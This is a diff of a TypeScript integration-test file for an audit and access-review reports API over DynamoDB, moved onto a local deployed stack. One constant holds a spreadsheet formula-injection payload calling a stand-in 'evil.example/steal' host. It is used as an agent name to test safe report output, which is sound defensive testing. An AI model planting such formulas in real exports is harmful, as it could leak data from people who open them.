@@ -1,136 +1,74 @@
 import { type DynamoDBClient, UpdateItemCommand } from '@aws-sdk/client-dynamodb';
 import { marshall } from '@aws-sdk/util-dynamodb';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { DynamoDbEventStore } from '../../lambdas/adapters/dynamodb-events.js';
 import { DynamoDbReports } from '../../lambdas/adapters/dynamodb-reports.js';
-import { DynamoDbRequestStore, keys } from '../../lambdas/adapters/dynamodb-store.js';
-import type { ApiEvent, ApiResult } from '../../lambdas/adapters/http.js';
-import { JwtAuthenticator } from '../../lambdas/adapters/jwt-authenticator.js';
-import type { Logger } from '../../lambdas/adapters/logger.js';
-import { CloudTrailLinker } from '../../lambdas/core/linker.js';
+import { keys } from '../../lambdas/adapters/dynamodb-store.js';
 import { REQUEST_STATUSES } from '../../lambdas/core/model.js';
+import { listEvidence, parseListQuery } from '../../lambdas/core/reports.js';
 import { sanitizeSourceIdentity } from '../../lambdas/core/session-policy.js';
-import { createListRequestsHandler } from '../../lambdas/handlers/list-requests.js';
-import { createReportsHandler } from '../../lambdas/handlers/reports.js';
-import { createLocalDynamoDbClient, type DynamoDbLocal } from '../../lib/local/dynamodb-local.js';
-import { type LocalServer, listenLocal, sendJson } from '../../lib/local/http-server.js';
-import { createLocalIssuer, type LocalIssuer } from '../../lib/local/oidc-issuer.js';
-import {
-  assumeRoleRecord,
-  CONFIG,
-  callRecord,
-  lifecycle,
-  MINTING_ROLE_ARN,
-  startTable,
-  TABLE_ARN,
-  TestClock,
-} from './support.js';
+import { createLocalDynamoDbClient } from '../../lib/local/dynamodb-local.js';
+import { TestStack } from '../support/local-stack.js';
+import { CloudTrailTap, deployedFunction, feedLinker, pastLifecycle } from './stack-support.js';
+import { assumeRoleRecord, callRecord, TABLE_ARN, TestClock } from './support.js';
+
+/**
+ * The reports API as deployed: the reports and list functions' bundles behind the local API Gateway,
+ * with their roles, environment and history key, over requests made through the request lifecycle
+ * on dated days (a moved clock: the range of a report is dates) and activity fed through the deployed
+ * linker. Which DynamoDB calls a function made is read from the stack's CloudTrail, as on AWS.
+ */
 
 const NOW = '2025-03-06T12:00:00.000Z';
 const INJECTION = '=HYPERLINK("http://evil.example/steal","Click")';
 
-let db: DynamoDbLocal;
-let client: DynamoDBClient;
-let reportsClient: DynamoDBClient;
-let table: string;
-let jwks: LocalServer;
-let issuer: LocalIssuer;
-let handler: ReturnType<typeof createReportsHandler>;
-const clock = new TestClock(Date.parse(NOW));
-/** Every DynamoDB command the reports sent, by name. */
-const commands: string[] = [];
-/** Items DynamoDB read for those commands (its own ScannedCount). */
-let itemsRead = 0;
-let listHandler: ReturnType<typeof createListRequestsHandler>;
-const silent: Logger = { info: () => undefined, warn: () => undefined, error: () => undefined };
+let stack: TestStack;
+let tap: CloudTrailTap;
+let auditor: string;
+let issuer: string;
+/** The reports and list functions' roles: their calls are theirs in CloudTrail. */
+let reportsRole: string;
+let listRole: string;
+/** Where CloudTrail stood when the test started. */
+let mark = 0;
+/** DynamoDB calls the reports function made in this test (CloudTrail `eventName`). */
+const commands = () => tap.dynamoCallsBy(reportsRole, mark).map((c) => c.operation);
+let db: DynamoDBClient;
 
 /** Ids of the requests made in beforeAll, by what they are. */
 const made: Record<string, string> = {};
 
 beforeAll(async () => {
-  ({ db, client, table } = await startTable());
-  let issuerRef: LocalIssuer | undefined;
-  jwks = await listenLocal((_req, res) => sendJson(res, 200, issuerRef!.jwks()));
-  issuer = createLocalIssuer({ issuer: jwks.url, audience: 'countersign' });
-  issuerRef = issuer;
-
-  reportsClient = createLocalDynamoDbClient(db.endpoint);
-  reportsClient.middlewareStack.add(
-    (next, context) => async (args) => {
-      commands.push(String(context.commandName));
-      return next(args);
-    },
-    { step: 'initialize', name: 'recordCommandNames' },
-  );
-  reportsClient.middlewareStack.add(
-    (next) => async (args) => {
-      const out = await next(args);
-      itemsRead += Number((out.output as { ScannedCount?: number }).ScannedCount ?? 0);
-      return out;
-    },
-    { step: 'initialize', name: 'countItemsRead' },
-  );
-  handler = createReportsHandler({
-    reports: new DynamoDbReports(reportsClient, table),
-    authenticator: new JwtAuthenticator({
-      issuer: issuer.issuer,
-      audience: 'countersign',
-      jwksUri: `${jwks.url}/.well-known/jwks.json`,
-      groupsClaim: 'groups',
-      roles: CONFIG.roles,
-    }),
-    logger: silent,
-    issuer: issuer.issuer,
-    clock,
-  });
-  listHandler = createListRequestsHandler({
-    reports: new DynamoDbReports(reportsClient, table),
-    authenticator: new JwtAuthenticator({
-      issuer: issuer.issuer,
-      audience: 'countersign',
-      jwksUri: `${jwks.url}/.well-known/jwks.json`,
-      groupsClaim: 'groups',
-      roles: CONFIG.roles,
-    }),
-    logger: silent,
-    clock,
-  });
+  stack = await TestStack.start();
+  tap = new CloudTrailTap(stack);
+  issuer = stack.stack.issuer.issuer;
+  auditor = await stack.token('carol-auditor', ['auditors']);
+  reportsRole = deployedFunction(stack, 'ReportsFunction').roleArn;
+  listRole = deployedFunction(stack, 'ListRequestsFunction').roleArn;
+  db = createLocalDynamoDbClient(stack.stack.endpoints.dynamodb);
   await seed();
-}, 60_000);
+}, 120_000);
 
 afterAll(async () => {
-  client?.destroy();
-  reportsClient?.destroy();
-  await jwks?.close();
-  await db?.stop();
+  db?.destroy();
+  await stack?.stop();
 });
 
 beforeEach(() => {
-  commands.length = 0;
-  itemsRead = 0;
+  mark = tap.seen.length;
 });
 
 /**
- * Requests over four days, made through the real lifecycle, with the agents' issuer being the one
- * the reports API runs under.
+ * Requests over four days, made through the request lifecycle under the stack's issuer, their
+ * sessions' activity linked by the deployed linker.
  */
 async function seed(): Promise<void> {
-  const life = lifecycle(client, table, clock);
-  const linker = new CloudTrailLinker({
-    events: new DynamoDbEventStore(client, table),
-    requests: new DynamoDbRequestStore(client, table),
-    mintingRoleArns: [MINTING_ROLE_ARN],
-  });
-  const agentCaller = (sub: string) => ({
-    sub,
-    issuer: issuer.issuer,
-    groups: ['agents'],
-    roles: new Set(['agent' as const]),
-  });
+  const clock = new TestClock(Date.parse(NOW));
+  const life = pastLifecycle(stack, clock);
+  const mintingRoleArn = deployedFunction(stack, 'ClaimCredentialsFunction').roleArn;
   const ask = async (at: string, agent: string, resource: string, actions: string[]) => {
     clock.set(at);
     const { request } = await life.requests.create(
-      agentCaller(agent),
+      life.agent(agent),
       JSON.stringify({ resource, actions, reason: 'Nightly maintenance (OPS-1)', durationSeconds: 900 }),
     );
     return request.id;
@@ -145,19 +83,20 @@ async function seed(): Promise<void> {
     calls: Array<{ eventName: string; errorCode?: string; tableName: string }>,
   ) => {
     clock.advance(30);
-    const credentials = await life.claims.claim(agentCaller(agent), id);
+    const credentials = await life.claims.claim(life.agent(agent), id);
     const sourceIdentity = sanitizeSourceIdentity(agent);
-    await linker.link(
+    const records = [
       assumeRoleRecord({
         requestId: id,
         mintedAccessKeyId: credentials.AccessKeyId,
         sourceIdentity,
         eventTime: clock.now().toISOString(),
+        mintingRoleArn,
       }),
-    );
+    ];
     for (const call of calls) {
       clock.advance(10);
-      await linker.link(
+      records.push(
         callRecord({
           requestId: id,
           accessKeyId: credentials.AccessKeyId,
@@ -167,92 +106,79 @@ async function seed(): Promise<void> {
         }),
       );
     }
+    expect(await feedLinker(stack, { Records: records })).toMatchObject({ stored: records.length });
   };
 
-  made.usedGrant = await ask('2025-03-01T09:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
-    'dynamodb:PutItem',
-  ]);
-  await decide(made.usedGrant, 30, 'approve');
-  await claimAndCall(made.usedGrant, 'deploy-bot', [{ eventName: 'PutItem', tableName: 'orders' }]);
+  try {
+    made.usedGrant = await ask('2025-03-01T09:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
+      'dynamodb:PutItem',
+    ]);
+    await decide(made.usedGrant, 30, 'approve');
+    await claimAndCall(made.usedGrant, 'deploy-bot', [{ eventName: 'PutItem', tableName: 'orders' }]);
 
-  made.policyDenied = await ask('2025-03-01T10:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
-    'dynamodb:DeleteTable',
-  ]);
+    made.policyDenied = await ask('2025-03-01T10:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
+      'dynamodb:DeleteTable',
+    ]);
 
-  made.unusedGrant = await ask('2025-03-02T09:00:00.000Z', 'etl-bot', TABLE_ARN('orders'), [
-    'dynamodb:PutItem',
-  ]);
-  await decide(made.unusedGrant, 30, 'approve');
+    made.unusedGrant = await ask('2025-03-02T09:00:00.000Z', 'etl-bot', TABLE_ARN('orders'), [
+      'dynamodb:PutItem',
+    ]);
+    await decide(made.unusedGrant, 30, 'approve');
 
-  made.rubberStamp = await ask('2025-03-02T11:00:00.000Z', 'etl-bot', TABLE_ARN('flagged-ledger'), [
-    'dynamodb:PutItem',
-  ]);
-  await decide(made.rubberStamp, 1, 'approve');
-  await claimAndCall(made.rubberStamp, 'etl-bot', [
-    { eventName: 'PutItem', tableName: 'flagged-ledger' },
-    { eventName: 'DeleteTable', tableName: 'flagged-ledger', errorCode: 'AccessDenied' },
-  ]);
+    made.rubberStamp = await ask('2025-03-02T11:00:00.000Z', 'etl-bot', TABLE_ARN('flagged-ledger'), [
+      'dynamodb:PutItem',
+    ]);
+    await decide(made.rubberStamp, 1, 'approve');
+    await claimAndCall(made.rubberStamp, 'etl-bot', [
+      { eventName: 'PutItem', tableName: 'flagged-ledger' },
+      { eventName: 'DeleteTable', tableName: 'flagged-ledger', errorCode: 'AccessDenied' },
+    ]);
 
-  made.humanDenied = await ask('2025-03-03T09:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
-    'dynamodb:PutItem',
-  ]);
-  await decide(made.humanDenied, 40, 'deny');
+    made.humanDenied = await ask('2025-03-03T09:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
+      'dynamodb:PutItem',
+    ]);
+    await decide(made.humanDenied, 40, 'deny');
 
-  made.policyAllowed = await ask('2025-03-03T10:00:00.000Z', INJECTION, TABLE_ARN('orders'), [
-    'dynamodb:GetItem',
-  ]);
+    made.policyAllowed = await ask('2025-03-03T10:00:00.000Z', INJECTION, TABLE_ARN('orders'), [
+      'dynamodb:GetItem',
+    ]);
 
-  made.timedOut = await ask('2025-03-04T09:00:00.000Z', 'etl-bot', TABLE_ARN('orders'), ['dynamodb:PutItem']);
+    made.timedOut = await ask('2025-03-04T09:00:00.000Z', 'etl-bot', TABLE_ARN('orders'), [
+      'dynamodb:PutItem',
+    ]);
 
-  // Outside the main range: the requests the tamper tests edit by hand.
-  made.toEditHistory = await ask('2025-02-20T09:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
-    'dynamodb:PutItem',
-  ]);
-  await decide(made.toEditHistory, 30, 'approve');
-  made.toEditStatus = await ask('2025-02-20T10:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
-    'dynamodb:DeleteTable',
-  ]);
-  made.untouched = await ask('2025-02-20T11:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
-    'dynamodb:DeleteTable',
-  ]);
-
-  clock.set(NOW);
+    // Outside the main range: the requests the tamper tests edit by hand.
+    made.toEditHistory = await ask('2025-02-20T09:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
+      'dynamodb:PutItem',
+    ]);
+    await decide(made.toEditHistory, 30, 'approve');
+    made.toEditStatus = await ask('2025-02-20T10:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
+      'dynamodb:DeleteTable',
+    ]);
+    made.untouched = await ask('2025-02-20T11:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
+      'dynamodb:DeleteTable',
+    ]);
+  } finally {
+    life.close();
+  }
 }
 
 const RANGE = { from: '2025-03-01', to: '2025-03-06' };
 
+/** A GET through the local API Gateway, as the auditor unless `token` says otherwise (null: none). */
 async function get(
   path: string,
-  options: {
-    query?: Record<string, string>;
-    token?: string | null;
-    resource?: string;
-    id?: string;
-    accept?: string;
-  } = {},
+  options: { query?: Record<string, string>; token?: string | null; accept?: string } = {},
 ): Promise<{ status: number; body: Record<string, unknown>; text: string; headers: Record<string, string> }> {
-  const token =
-    options.token === undefined ? issuer.sign({ sub: 'carol-auditor', groups: ['auditors'] }) : options.token;
-  const event: ApiEvent = {
-    httpMethod: 'GET',
-    path,
-    ...(options.resource ? { resource: options.resource } : {}),
-    headers: {
-      ...(token ? { Authorization: `Bearer ${token}` } : {}),
-      ...(options.accept ? { Accept: options.accept } : {}),
-    },
-    queryStringParameters: options.query ?? null,
-    pathParameters: options.id ? { id: options.id } : null,
-    body: null,
-  };
-  const result = (await handler(event, {} as never)) as ApiResult;
-  let body: Record<string, unknown> = {};
-  try {
-    body = JSON.parse(result.body);
-  } catch {
-    // CSV
-  }
-  return { status: result.statusCode, body, text: result.body, headers: result.headers };
+  const token = options.token === undefined ? auditor : options.token;
+  const query = options.query ? `?${new URLSearchParams(options.query)}` : '';
+  const answer = await stack.call('GET', `${path}${query}`, {
+    ...(token ? { token } : {}),
+    ...(options.accept ? { headers: { accept: options.accept } } : {}),
+  });
+  const text = typeof answer.body === 'string' ? answer.body : JSON.stringify(answer.body);
+  const body = typeof answer.body === 'string' ? {} : answer.body;
+  return { status: answer.status, body, text, headers: Object.fromEntries(answer.headers.entries()) };
 }
 
 type Summary = {
@@ -280,11 +206,9 @@ async function listAll(query: Record<string, string>): Promise<{ ids: string[]; 
 
 describe('reports: who may read them', () => {
   it('answers auditors, refuses agents and approvers with 403 and the unauthenticated with 401', async () => {
-    const agent = await get('/v1/reports/requests', {
-      token: issuer.sign({ sub: 'deploy-bot', groups: ['agents'] }),
-    });
+    const agent = await get('/v1/reports/requests', { token: await stack.agentToken('deploy-bot') });
     const approver = await get('/v1/reports/access-review', {
-      token: issuer.sign({ sub: 'alice@example.com', groups: ['approvers'] }),
+      token: await stack.token('alice@example.com', ['approvers']),
     });
     const nobody = await get('/v1/reports/requests', { token: null });
     const auditor = await get('/v1/reports/requests', { query: RANGE });
@@ -343,8 +267,9 @@ describe('GET /v1/reports/requests', () => {
     expect(byId[made.timedOut!]!.complete).toBe(false);
     expect(Object.values(byId).every((i) => i.integrity.valid)).toBe(true);
     // One Query per day partition of the range, nothing per item.
-    expect(commands.filter((c) => c !== 'QueryCommand')).toEqual([]);
-    expect(commands.length).toBeLessThanOrEqual(6);
+    expect(commands().filter((c) => c !== 'Query')).toEqual([]);
+    expect(commands().length).toBeGreaterThan(0);
+    expect(commands().length).toBeLessThanOrEqual(6);
   });
 
   it.each([
@@ -361,7 +286,7 @@ describe('GET /v1/reports/requests', () => {
 
     expect(answer.status).toBe(400);
     expect(answer.body.error).toMatchObject({ code: 'ValidationError', details: { field } });
-    expect(commands).toEqual([]);
+    expect(commands()).toEqual([]);
   });
 
   it('refuses a tampered, foreign or out-of-range cursor with a 400, before touching the table', async () => {
@@ -369,7 +294,7 @@ describe('GET /v1/reports/requests', () => {
     const cursor = String(first.body.nextCursor);
     const decoded = JSON.parse(Buffer.from(cursor, 'base64url').toString('utf8'));
     const reencode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
-    commands.length = 0;
+    mark = tap.seen.length;
 
     const tampered = [
       `${cursor.slice(0, -2)}!!`,
@@ -393,20 +318,15 @@ describe('GET /v1/reports/requests', () => {
     expect(
       answers.every((a) => (a.body.error as { details: { field: string } }).details.field === 'cursor'),
     ).toBe(true);
-    expect(commands).toEqual([]);
+    expect(commands()).toEqual([]);
   });
 });
 
 describe('GET /v1/reports/requests/{id}', () => {
-  it('answers the evidence record, by API Gateway route template or by path', async () => {
-    const byResource = await get(`/v1/reports/requests/${made.rubberStamp}`, {
-      resource: '/v1/reports/requests/{id}',
-      id: made.rubberStamp!,
-    });
-    const byPath = await get(`/v1/reports/requests/${made.rubberStamp}`);
+  it('answers the evidence record through its API Gateway route', async () => {
+    const byResource = await get(`/v1/reports/requests/${made.rubberStamp}`);
 
     expect(byResource.status).toBe(200);
-    expect(byPath.body).toEqual(byResource.body);
     const record = byResource.body as {
       request: { id: string; status: string };
       evidence: {
@@ -427,11 +347,11 @@ describe('GET /v1/reports/requests/{id}', () => {
     expect(record.evidence.sessions).toHaveLength(1);
     expect(record.findings.map((f) => f.type).sort()).toEqual(['ACCESS_DENIED', 'RUBBER_STAMP']);
     expect(record.complete).toBe(true);
-    expect(record.integrity).toEqual({ valid: true });
+    expect(record.integrity).toEqual({ valid: true, keyed: true });
     // The task token stored in the same partition never reaches the reader.
     expect(byResource.text).not.toContain('TOKEN');
     // One Query on the request's partition.
-    expect(commands).toEqual(['QueryCommand', 'QueryCommand']);
+    expect(commands()).toEqual(['Query']);
   });
 
   it('is 404 for an unknown or malformed id', async () => {
@@ -454,9 +374,9 @@ describe('tamper evidence', () => {
 
   it('fails verification after a history entry is edited by hand in DynamoDB', async () => {
     const before = await record(made.toEditHistory!);
-    await client.send(
+    await db.send(
       new UpdateItemCommand({
-        TableName: table,
+        TableName: stack.stack.tableName,
         Key: marshall(keys.request(made.toEditHistory!)),
         UpdateExpression: 'SET history[0].#event = :event',
         ExpressionAttributeNames: { '#event': 'event' },
@@ -466,16 +386,16 @@ describe('tamper evidence', () => {
 
     const after = await record(made.toEditHistory!);
 
-    expect(before.integrity).toEqual({ valid: true });
+    expect(before.integrity).toEqual({ valid: true, keyed: true });
     expect(after.integrity.valid).toBe(false);
     expect(after.integrity.problem).toMatch(/entry 1 .* altered/);
     expect(after.findings.map((f) => f.type)).toContain('INTEGRITY_FAILURE');
   });
 
   it('fails verification after the request status is edited by hand, in the record and in the listing', async () => {
-    await client.send(
+    await db.send(
       new UpdateItemCommand({
-        TableName: table,
+        TableName: stack.stack.tableName,
         Key: marshall(keys.request(made.toEditStatus!)),
         UpdateExpression: 'SET #status = :status',
         ExpressionAttributeNames: { '#status': 'status' },
@@ -505,7 +425,7 @@ describe('GET /v1/reports/access-review', () => {
     expect(answer.body.agents).toEqual([
       {
         agent: INJECTION,
-        issuer: issuer.issuer,
+        issuer,
         requests: 1,
         statuses: statuses({ EXPIRED: 1 }),
         approved: 1,
@@ -526,7 +446,7 @@ describe('GET /v1/reports/access-review', () => {
       },
       {
         agent: 'deploy-bot',
-        issuer: issuer.issuer,
+        issuer,
         requests: 3,
         statuses: statuses({ EXPIRED: 1, DENIED: 2 }),
         approved: 1,
@@ -547,7 +467,7 @@ describe('GET /v1/reports/access-review', () => {
       },
       {
         agent: 'etl-bot',
-        issuer: issuer.issuer,
+        issuer,
         requests: 3,
         statuses: statuses({ EXPIRED: 2, TIMED_OUT: 1 }),
         approved: 2,
@@ -665,35 +585,78 @@ describe('GET /v1/reports/access-review', () => {
 });
 
 describe('status filters read the byStatus index', () => {
-  it('reads at most 1.2 items per item returned for status= over every agent', async () => {
+  it('the deployed reports query only the byStatus index for status= over every agent', async () => {
     for (const [status, limit] of [
       ['DENIED', '25'],
       ['DENIED', '1'],
       ['EXPIRED', '25'],
     ] as const) {
-      itemsRead = 0;
+      mark = tap.seen.length;
       const { ids } = await listAll({ ...RANGE, status, limit });
       expect(ids.length).toBeGreaterThan(0);
-      expect(itemsRead / ids.length, `${status} limit ${limit}`).toBeLessThanOrEqual(1.2);
+      const calls = tap.dynamoCallsBy(reportsRole, mark);
+      expect(calls.length, `${status} limit ${limit}`).toBeGreaterThan(0);
+      expect(
+        calls.every((c) => c.operation === 'Query' && c.indexName === 'byStatus'),
+        `${status} limit ${limit}: ${JSON.stringify(calls)}`,
+      ).toBe(true);
     }
     const denied = await listAll({ ...RANGE, status: 'DENIED', limit: '1' });
     expect(denied.ids).toEqual([made.humanDenied, made.policyDenied]);
+  });
+
+  it('reads at most 1.2 items per item returned (the reports’ reader on the stack’s table)', async () => {
+    // CloudTrail does not say how many items a Query read: DynamoDB's ScannedCount does, so the
+    // reader the reports function runs is measured on the same table, through the same listing.
+    let itemsRead = 0;
+    const counting = createLocalDynamoDbClient(stack.stack.endpoints.dynamodb);
+    counting.middlewareStack.add(
+      (next) => async (args) => {
+        const out = await next(args);
+        itemsRead += Number((out.output as { ScannedCount?: number }).ScannedCount ?? 0);
+        return out;
+      },
+      { step: 'initialize', name: 'countItemsRead' },
+    );
+    const reader = new DynamoDbReports(counting, stack.stack.tableName);
+    const now = new Date();
+    try {
+      for (const [status, limit] of [
+        ['DENIED', '25'],
+        ['DENIED', '1'],
+        ['EXPIRED', '25'],
+      ] as const) {
+        itemsRead = 0;
+        const ids: string[] = [];
+        let cursor: string | undefined;
+        do {
+          const query = parseListQuery(
+            { ...RANGE, status, limit, ...(cursor ? { cursor } : {}) },
+            now,
+            issuer,
+          );
+          const page = await listEvidence(reader, query, now);
+          ids.push(...page.items.map((i) => i.request.id));
+          cursor = page.nextCursor ?? undefined;
+        } while (cursor);
+        expect(ids.length).toBeGreaterThan(0);
+        expect(itemsRead / ids.length, `${status} limit ${limit}`).toBeLessThanOrEqual(1.2);
+      }
+    } finally {
+      counting.destroy();
+    }
   });
 });
 
 describe('GET /v1/requests reads with Query only', () => {
   const listAs = async (sub: string, groups: string[], query: Record<string, string>) => {
-    const event: ApiEvent = {
-      httpMethod: 'GET',
-      path: '/v1/requests',
-      headers: { Authorization: `Bearer ${issuer.sign({ sub, groups })}` },
-      queryStringParameters: query,
-      pathParameters: null,
-      body: null,
-    };
-    const result = (await listHandler(event, {} as never)) as ApiResult;
-    expect(result.statusCode).toBe(200);
-    return JSON.parse(result.body) as { items: Array<{ id: string }>; nextCursor: string | null };
+    const answer = await stack.call<{ items: Array<{ id: string }>; nextCursor: string | null }>(
+      'GET',
+      `/v1/requests?${new URLSearchParams(query)}`,
+      { token: await stack.token(sub, groups) },
+    );
+    expect(answer.status).toBe(200);
+    return answer.body;
   };
 
   it('lists for auditors, approvers and agents without a Scan', async () => {
@@ -704,7 +667,9 @@ describe('GET /v1/requests reads with Query only', () => {
     const own = await listAs('etl-bot', ['agents'], { status: 'TIMED_OUT' });
     expect(own.items.map((i) => i.id)).toEqual([made.timedOut]);
 
-    expect(new Set(commands)).toEqual(new Set(['QueryCommand']));
+    const calls = tap.dynamoCallsBy(listRole, mark).map((c) => c.operation);
+    expect(calls.length).toBeGreaterThan(0);
+    expect(new Set(calls)).toEqual(new Set(['Query']));
   });
 });
 
@@ -716,10 +681,7 @@ describe('reports read with Query and GetItem only', () => {
     await get('/v1/reports/access-review', { query: RANGE });
     await get('/v1/reports/access-review', { query: RANGE, accept: 'text/csv' });
 
-    expect(commands.length).toBeGreaterThan(0);
-    expect(new Set(commands)).toEqual(new Set(['QueryCommand']));
-    expect(commands.every((c) => ['QueryCommand', 'GetItemCommand', 'BatchGetItemCommand'].includes(c))).toBe(
-      true,
-    );
+    expect(commands().length).toBeGreaterThan(0);
+    expect(new Set(commands())).toEqual(new Set(['Query']));
   });
 });
